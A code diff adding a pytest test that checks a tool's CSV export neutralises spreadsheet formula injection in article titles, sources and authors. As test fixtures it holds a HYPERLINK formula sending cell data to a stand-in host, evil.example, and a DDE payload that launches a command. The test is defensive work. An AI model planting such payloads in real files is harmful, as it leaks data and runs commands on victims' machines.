@@ -107,3 +107,49 @@ def test_linked_entities_and_their_mentions_are_rows(linked_store: Store, tmp_pa
     assert json.loads(entities["x:person/marieke-jansen"]["roles"]) == ["leader"]
     mentions = [m for m in _read(out, "mentions") if m["entity_id"] == "x:person/marieke-jansen"]
     assert sorted(m["article_id"] for m in mentions) == ["exp-001", "exp-002"]
+
+
+def test_formula_cells_are_neutralised_and_plain_text_is_not(tmp_path: Path) -> None:
+    """A hostile title, source and author that a spreadsheet would run stay text; a
+    title that only contains "=" and a negative number are written as they are."""
+    from typer.testing import CliRunner
+
+    from sourcetrace.cli import app
+
+    payloads = {
+        "csv-1": ('=HYPERLINK("http://evil.example/?d="&A1,"open")', "@SUM(1+1)",
+                  "+cmd|' /C calc'!A0"),
+        "csv-2": ("-2+3 is the headline", "\t=1+1", "Ann Writer"),
+        "csv-3": ("Plain title = fine", "Daily Ledger", "Bo Writer"),
+    }
+    lines = [json.dumps({"id": key, "title": title, "source": source, "author": author,
+                         "language": "en", "published": "2024-05-01",
+                         "text": "The council met on Tuesday and spent 3 million euros."})
+             for key, (title, source, author) in payloads.items()]
+    corpus = tmp_path / "hostile.jsonl"
+    corpus.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    db, out = tmp_path / "case.db", tmp_path / "csv"
+    runner = CliRunner()
+    assert runner.invoke(app, ["ingest", str(corpus), "--db", str(db)]).exit_code == 0
+    result = runner.invoke(app, ["export", "--db", str(db), "--format", "csv", "--out", str(out)])
+    assert result.exit_code == 0, result.output
+    rows = {row["id"]: row for row in _read(out, "articles")}
+    for key, values in payloads.items():
+        for column, value in zip(("title", "source", "author"), values, strict=True):
+            cell = rows[key][column]
+            if value[0] in "=+-@\t":
+                assert cell == "'" + value, (column, cell)
+            else:
+                assert cell == value, (column, cell)
+    for name in ("articles", "figures", "quotes", "dates"):
+        for row in _read(out, name):
+            assert not any(cell[:1] in ("=", "+", "-", "@", "\t") for cell in row.values()
+                           if not _is_number(cell)), row
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
